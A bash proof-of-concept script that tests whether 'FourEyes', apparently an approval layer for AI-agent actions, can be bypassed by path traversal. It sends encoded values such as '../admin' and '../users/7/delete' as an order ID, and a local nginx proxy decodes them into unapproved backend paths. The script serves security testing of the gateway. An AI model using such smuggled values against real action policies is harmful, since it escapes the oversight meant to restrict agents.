#!/bin/bash
# H2 (attack31): an http connector's path value `../admin` is sent as one segment `..%2Fadmin` — but nginx in front of the
# target (an ordinary `location /api/ { proxy_pass http://backend/api/; }`) decodes %2F and resolves `..`: the backend
# receives /api/admin/refund, a path the policy's template never names.
# usage: FOUREYES_BIN=/path/foureyes NGINX_BIN=/path/to/nginx h2_encoded_slash.sh
# (nginx without installing: `apt-get download nginx && dpkg -x nginx_*.deb root`; NGINX_BIN=root/usr/sbin/nginx)
set -u; B=${FOUREYES_BIN:?}; NGINX_BIN=${NGINX_BIN:?}; W=$(mktemp -d /tmp/h2-XXXX); cd $W; mkdir -p p/logs p/tmp
cat > nginx.conf <<EOC
daemon off; worker_processes 1; error_log $W/p/logs/error.log; pid $W/p/nginx.pid;
events { worker_connections 64; }
http { access_log $W/p/logs/access.log; client_body_temp_path $W/p/tmp; proxy_temp_path $W/p/tmp;
  fastcgi_temp_path $W/p/tmp; uwsgi_temp_path $W/p/tmp; scgi_temp_path $W/p/tmp;
  server { listen 127.0.0.1:18933; location /api/ { proxy_pass http://127.0.0.1:18932/api/; } } }
EOC
cat > backend.py <<'EOP'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get("content-length") or 0); self.rfile.read(n)
        open(sys.argv[1], "a").write(self.path + "\n")
        self.send_response(200); self.send_header("content-type", "application/json"); self.end_headers(); self.wfile.write(b'{"ok":true}')
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", 18932), H).serve_forever()
EOP
cat > policy.yaml <<'EOP'
version: 1
actions:
  shop.refund:
    tier: 2
    params:
      order_id: { type: string, max_len: 64 }
    limits: [ { count: 20, per: 1h } ]
    execute:
      http:
        method: POST
        url: "http://127.0.0.1:18933/api/orders/{{ params.order_id }}/refund"
        body: '{"order": {{ params.order_id }}}'
        success: { status: [200] }
        timeout: 5s
EOP
env -u NGINX_BIN $NGINX_BIN -p $W/p -c $W/nginx.conf & NP=$!; python3 backend.py $W/backend.log & BP=$!; sleep 1
export FOUREYES_DB=$W/fe.db
for v in "ord_1042" "../admin" "../users/7/delete"; do
  $B execute --policy policy.yaml --agent bot --action shop.refund --params "{\"order_id\": \"$v\"}" --request-id "r-$RANDOM" --json 2>/dev/null |
    python3 -c 'import json,sys; d=json.load(sys.stdin); print("  FourEyes:", d["verdict"], d.get("outcome"), "sent", d["report_detail"].get("url"))'
  echo "  the backend received: $(tail -n 1 backend.log)"
done
kill $NP $BP; wait $NP $BP 2>/dev/null
